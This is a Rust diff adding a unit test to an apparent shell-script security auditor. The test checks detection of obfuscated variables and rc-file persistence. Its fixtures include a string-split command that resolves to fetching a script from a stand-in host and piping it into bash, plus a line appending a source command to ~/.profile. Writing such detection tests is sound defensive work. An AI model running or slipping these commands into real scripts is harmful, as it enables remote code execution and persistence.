@@ -260,3 +260,20 @@ fn more_languages_and_stores_are_recognised() {
         [("persist.launch-agent", Severity::High)]
     );
 }
+
+#[test]
+fn constant_shell_variables_are_filled_in() {
+    let script = "#!/bin/sh\nW=\"wg\"\"et\"\nR=ba\"sh\"\n$W -qO- \"https://x.example/p\" | $R\n";
+    let report = Auditor::new().audit_files([("update", script.as_bytes())]).unwrap();
+    assert_eq!(report.findings.len(), 1);
+    let finding = &report.findings[0];
+    assert_eq!((finding.rule.id, finding.severity, finding.line), ("exec.pipe-to-shell", Severity::Critical, 4));
+    assert!(finding.message.ends_with("with its variables filled in: wget -qO- https://x.example/p | bash"));
+    let rc = "rc=\"$HOME/.pro\"\"file\"\nprintf '%s\\n' '. ~/.x' >> \"$rc\"\n";
+    assert_eq!(fired(&[("path.sh", rc)]), [("persist.shell-rc", Severity::High)]);
+    // A value from a command is no constant; other languages are not shell.
+    let benign =
+        "D=$(mktemp -d)\nrm -rf $D\nOUT=/tmp/build\nrm -rf \"$OUT\"\nsh=$(command -v sh)\necho ok | tee $OUT/log\n";
+    assert_eq!(fired(&[("clean.sh", benign)]), []);
+    assert_eq!(fired(&[("a.py", "R='bash'\nprint(f'{x} | $R')\n")]), []);
+}
